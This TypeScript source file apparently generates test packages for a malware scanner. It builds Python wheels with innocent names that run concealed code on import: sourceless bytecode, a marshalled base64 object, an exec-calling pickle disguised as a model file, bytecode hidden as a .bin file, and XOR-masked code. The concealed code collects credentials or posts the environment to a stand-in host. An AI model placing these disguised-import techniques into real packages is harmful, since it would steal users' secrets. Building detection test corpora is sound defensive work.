import { deflateSync } from 'node:zlib';
import { execDecodedPyc, sendEnvironmentPyc, spawnTextPyc } from './bytecode.ts';
import { importingWheel, techniques } from './drafts.ts';
import { base64, ENCODERS } from './encoders.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { compiledCache } from './look-alikes/hooks.ts';
import { pickledModel } from './look-alikes/loading.ts';
import { credentialCollector, stagedLoader } from './payloads.ts';
import { py } from './python-text.ts';

const orphan =
  (name: string, bytecode: (c: Remote) => Uint8Array) =>
  (c: Remote): Draft =>
    importingWheel({
      name,
      about: 'Compact containers',
      code: '\nfrom . import _engine\n',
      files: { [`${name}/_engine.pyc`]: bytecode(c) },
    });

const orphanDecoded = orphan('compactsets', (c) =>
  execDecodedPyc(base64(deflateSync(Buffer.from(stagedLoader(c)))), 'compactsets/_engine.py'),
);
const orphanSpawn = orphan('compactmaps', (c) => spawnTextPyc(credentialCollector(c), 'compactmaps/_engine.py'));
const orphanSend = orphan('compactlists', (c) => sendEnvironmentPyc(c.url('/env'), 'compactlists/_engine.py'));

/** Marshal of a code object as a literal, executed at import. */
const marshalled = (c: Remote): Draft => {
  const code = spawnTextPyc(credentialCollector(c), 'kernel.py').subarray(16);
  return importingWheel({
    name: 'seqkernels',
    about: 'Sequences',
    code: `\nimport base64\nimport marshal\n\nexec(marshal.loads(base64.b64decode("${base64(code)}")))\n`,
  });
};

/** A pickle whose reduction calls exec on text. */
const pickled = (c: Remote): Draft => {
  const text = Buffer.from(stagedLoader(c), 'utf8');
  const size = Buffer.alloc(4);
  size.writeUInt32LE(text.length);
  const opening = Buffer.from('\x80\x03cbuiltins\nexec\nX', 'latin1');
  return importingWheel({
    name: 'sentiment-lite',
    about: 'Sentiment of texts',
    files: { 'sentiment_lite/model.pkl': Buffer.concat([opening, size, text, Buffer.from('\x85Rq\x00.', 'latin1')]) },
    code: py`
import os
import pickle

with open(os.path.join(os.path.dirname(__file__), "model.pkl"), "rb") as _stream:
    MODEL = pickle.load(_stream)
`,
  });
};

/** Bytecode under the name of a data file. */
const sideLoaded = (c: Remote): Draft =>
  importingWheel({
    name: 'gridcache',
    about: 'Caches of grids',
    files: {
      'gridcache/data/index.bin': execDecodedPyc(base64(deflateSync(Buffer.from(credentialCollector(c)))), 'index.py'),
    },
    code: py`
import marshal
import os

with open(os.path.join(os.path.dirname(__file__), "data", "index.bin"), "rb") as _stream:
    exec(marshal.loads(_stream.read()[16:]))
`,
  });

const newModule = (c: Remote): Draft => {
  const layer = ENCODERS.xor(deflateSync(Buffer.from(credentialCollector(c))));
  return importingWheel({
    name: 'ringbuffers',
    about: 'Ring buffers',
    code: `\nimport ${layer.imports.join(', ')}\nimport types\nimport zlib\n\n_module = types.ModuleType("_ring")\nexec(compile(zlib.decompress(${layer.expression}), "_ring", "exec"), _module.__dict__)\n`,
  });
};

const technique = techniques('https://attack.mitre.org/techniques/T1027/', 'https://edge.asset-mirror.invalid');

export const BYTECODE: readonly Replay[] = [
  technique(
    '35a-orphan-pyc-decoded',
    'a .pyc without a source: inflates and executes',
    'import loads bytecode that has no source; it inflates a loader and executes it',
    orphanDecoded,
    { lookAlikes: () => [compiledCache()] },
  ),
  technique(
    '35b-orphan-pyc-spawn',
    'a .pyc without a source: python -c with a collector',
    'import loads bytecode that has no source; it starts Python with a collector of credentials',
    orphanSpawn,
  ),
  technique(
    '35c-orphan-pyc-send',
    'a .pyc without a source: the environment is posted',
    'import loads bytecode that has no source; it posts the environment to a constant host',
    orphanSend,
  ),
  technique(
    '35d-marshal',
    'a marshalled code object in base64',
    'import unmarshals a code object from a literal and executes it: it spawns a collector',
    marshalled,
  ),
  technique(
    '35e-pickle',
    'a model file whose pickle calls exec',
    'import loads model.pkl, whose reduction calls exec on a loader',
    pickled,
    { lookAlikes: () => [pickledModel()] },
  ),
  technique(
    '35f-side-loaded-bytecode',
    'bytecode in a .bin file, unmarshalled at import',
    'import reads a bytecode file under another name, unmarshals and executes it',
    sideLoaded,
  ),
  technique(
    '35g-new-module',
    'zlib under XOR, executed in a made-up module',
    'import un-masks and inflates a collector and executes it in the namespace of a new module',
    newModule,
  ),
];
